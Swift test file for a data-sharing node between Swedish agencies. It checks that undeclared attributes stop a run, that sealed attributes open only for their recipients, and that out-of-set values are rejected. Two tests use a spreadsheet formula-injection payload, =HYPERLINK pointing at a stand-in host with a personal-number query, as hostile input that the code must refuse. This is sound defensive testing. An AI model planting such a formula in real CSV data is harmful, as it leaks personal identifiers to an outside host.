import Foundation
import Testing
import Agreements
import Parties
import Sodium
import Wire
@testable import Node

/// Protocols/node.md §2.5, §5: the node sends only what the agreement declares for its party, and
/// only declared values; sealed values only their recipients open.
@Suite struct DeclaredAttributesTests {
    func job(_ f: Fixture, csv: String, mapping: String, party: PartyKeys? = nil, out: String = "out") throws -> IngestJob {
        var job = try f.job(csv: csv, out: out)
        job.mapping = try ColumnMapping(json: Data(mapping.utf8))
        if let party { job.party = party }
        return job
    }

    @Test func anAttributeTheAgreementDoesNotDeclareStopsTheRun() throws {
        let f = Fixture()
        let mapping = #"{"format": "korskoll-mapping-v1", "recordId": "arende", "person": "personnr", "attributes": {"surname_plain": "efternamn"}}"#
        let error = #expect(throws: NodeError.self) { try Ingest.run(try job(f, csv: header + "A1,\(pins[0]),,,Ek,,\n", mapping: mapping)) }
        #expect(error?.code == .undeclared && error?.reason.contains("surname_plain") == true)
        #expect(!FileManager.default.fileExists(atPath: "\(f.dir)/out"), "nothing is written")
    }

    @Test func anIdentifierKindThePartyDoesNotDeclareStopsTheRun() throws {
        let f = Fixture()
        let police = try PartyKeys.generate(party: "polisen")
        let mapping = #"{"format": "korskoll-mapping-v1", "recordId": "arende", "person": "personnr", "organisation": "orgnr"}"#
        let error = #expect(throws: NodeError.self) { try Ingest.run(try job(f, csv: header + "A1,\(pins[0]),,,,,\n", mapping: mapping, party: police)) }
        #expect(error?.code == .undeclared && error?.reason.contains("organisation") == true)
    }

    @Test func withoutAnAgreementAMappingWithAttributesStopsTheRun() throws {
        let f = Fixture()
        var j = try f.job(csv: header + "A1,\(pins[0]),,,,,m\n")
        j.agreement = nil
        #expect(throws: NodeError(.undeclared, "the mapping sends attributes (role); give --agreement so that they are checked against the values it declares")) {
            try Ingest.run(j)
        }
    }

    /// Issue 16 finding 5: a formula is not a declared value; its row is rejected, naming line, column and value.
    @Test func aValueOutsideTheDeclaredSetRejectsItsRowNamingLineColumnAndValue() throws {
        let f = Fixture()
        let csv = header + "A1,\(pins[0]),,Åsa,Ek,,m\nA2,\(pins[1]),,Åsa,Ek,,\"=HYPERLINK(\"\"http://x/?pnr=1\"\")\"\nA3,\(pins[2]),,,,,\n"
        let summary = try Ingest.run(try f.job(csv: csv))
        #expect(summary.rowsSubmitted == 2 && summary.rejectedByReason == ["row.attribute-value": 1])
        let report = try String(contentsOfFile: "\(f.dir)/out/\(Ingest.rejectFile)", encoding: .utf8)
        let line = report.split(separator: "\n").first { $0.contains("row.attribute-value") }.map(String.init) ?? ""
        #expect(line.hasPrefix("3,roll,row.attribute-value,"), "line 3, column roll: \(line)")
        #expect(line.contains("HYPERLINK") && line.contains("a, m, styrelseledamot"))
        let (_, records) = try f.records()
        #expect(Set(records.map(\.attributes)) == [["m"], [""]])
    }

    @Test func aSealedAttributeIsUnreadableToTheCoordinatorAndOpensForItsRecipient() throws {
        let f = Fixture()
        let police = try PartyKeys.generate(party: "polisen"), fk = try PartyKeys.generate(party: "fk")
        let mapping = #"{"format": "korskoll-mapping-v1", "recordId": "arende", "person": "personnr", "attributes": {"category": "roll"}}"#
        let values = ["aktiv", "koppling", "", "aktiv"]
        let csv = header + values.enumerated().map { "A\($0),\(pins[$0]),,,,,\($1)" }.joined(separator: "\n") + "\n"
        var j = try job(f, csv: csv, mapping: mapping, party: police)
        // Without fk's key the category cannot be sealed: the run stops.
        #expect(throws: NodeError.self) { try Ingest.run(j) }
        j.sealingKeys = ["fk": fk.sealing.publicKey]
        j.output = "\(f.dir)/sealed"
        let summary = try Ingest.run(j)
        #expect(summary.rowsSubmitted == 4)
        let opened = try Submission.Opened(path: "\(f.dir)/sealed/\(Ingest.submissionFile)", key: f.coordinator.sealing)
        try opened.verify(signedBy: police.signing.publicKey)
        #expect(opened.header.attributes.isEmpty && opened.header.sealedAttributes == [.init(name: "category", recipients: ["fk"])])
        var got: [String] = []
        while let r = try opened.next() {
            #expect(r.attributes.isEmpty && r.sealed.count == 1 && r.sealed[0].count == SealedAttribute.boxLength, "one box of one length, absent values too")
            #expect(throws: WireError.self) { try SealedAttribute.open(r.sealed[0], with: f.coordinator.sealing) }
            got.append(try SealedAttribute.open(r.sealed[0], with: fk.sealing))
        }
        #expect(got.sorted() == values.sorted())
        // node encode keeps the agreement beside the row map for opening results.
        #expect(FileManager.default.fileExists(atPath: "\(f.dir)/sealed/\(Ingest.agreementFile)"))
    }

    /// Issue 16 finding 5: a sealed value that no party declared never reaches the recipient's CSV.
    @Test func openingRefusesASealedValueOutsideTheDeclaredSet() throws {
        let f = Fixture()
        let fk = f.party
        let agreement = try Agreement(json: Data(fixtureAgreementJSON.utf8))
        try Data(agreement.bytes).write(to: URL(fileURLWithPath: "\(f.dir)/\(Ingest.agreementFile)"))
        func doc(_ values: [String]) -> ResultDocument {
            let boxes = values.map { Data(SealedAttribute.seal($0, to: fk.sealing.publicKey)).base64EncodedString() }
            return ResultDocument(agreement: agreement.id, agreementHash: Hex.encode(agreement.hash), output: "fk-rows", recipient: "fk",
                                  kind: "per-record", fields: ["category", "matchKind"], matchedRows: 1,
                                  rows: [ResultDocument.Row(row: 0, matchKind: ["exact-person"], sealed: ["category": boxes])])
        }
        #expect(try ResultOpening.openSealed(doc(["koppling", "aktiv", "aktiv", ""]), encoded: f.dir, key: fk.sealing, me: "fk") == [["category": ["aktiv", "koppling"]]])
        let error = #expect(throws: NodeError.self) {
            try ResultOpening.openSealed(doc(["aktiv", "=HYPERLINK(\"http://x/?pnr=1\")"]), encoded: f.dir, key: fk.sealing, me: "fk")
        }
        #expect(error?.code == .result && error?.reason.contains("HYPERLINK") == false)
        // A box for another key does not open.
        let foreign = ResultDocument(agreement: agreement.id, agreementHash: Hex.encode(agreement.hash), output: "fk-rows", recipient: "fk", kind: "per-record",
                                     rows: [ResultDocument.Row(row: 0, sealed: ["category": [Data(SealedAttribute.seal("aktiv", to: f.coordinator.sealing.publicKey)).base64EncodedString()]])])
        #expect(throws: NodeError.self) { try ResultOpening.openSealed(foreign, encoded: f.dir, key: fk.sealing, me: "fk") }
    }
}
